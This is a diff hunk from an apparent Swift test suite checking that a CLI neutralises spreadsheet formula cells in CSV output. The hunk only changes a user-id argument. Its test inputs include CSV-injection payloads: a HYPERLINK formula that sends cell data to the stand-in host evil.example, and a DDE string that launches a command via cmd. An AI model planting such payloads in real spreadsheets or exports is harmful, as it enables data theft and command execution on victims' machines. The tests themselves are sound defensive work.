@@ -156,7 +156,7 @@ struct OutputSafetyTests {
     @Test func formulaCellsAreNeutralisedInBothCSVFormatsButPhoneNumbersStayAsTheyAre() throws {
         let cli = CLI()
         try cli("profile", "set", "--name", "Northwind", "--tenant-id", "6f1c2a9e-0d54-4b7a-9a3e-2f8b1c7d5e40",
-                "--domains", "northwind.example", "--role", "directBill", "--user-id", "pc-user-1")
+                "--domains", "northwind.example", "--role", "directBill", "--user-id", "5f0c9a1e-3b7d-4c2a-9e41-7d2b8c6a0f13")
         let company = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
         #expect(try cli("add-customer", "--tenant-id", Self.contoso, "--name", company, "--domains", "contoso.com").status == 0)
         let confirm = try cli("confirm", Self.contoso, "--first", "+cmd|' /C calc'!A0", "--last", "@SUM(1+1)",
